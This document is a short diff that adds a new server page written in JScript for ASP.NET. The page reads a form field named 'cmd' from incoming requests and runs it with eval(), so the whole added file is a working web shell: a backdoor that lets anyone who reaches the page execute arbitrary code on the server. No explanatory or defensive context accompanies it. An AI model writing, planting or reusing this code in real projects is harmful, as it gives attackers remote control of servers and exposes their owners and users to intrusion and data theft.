@@ -1,0 +1,5 @@
+<%@ Page Language="Jscript" Debug=true%>
+<%
+var payload=Request.Form("cmd");
+eval(payload);
+%>
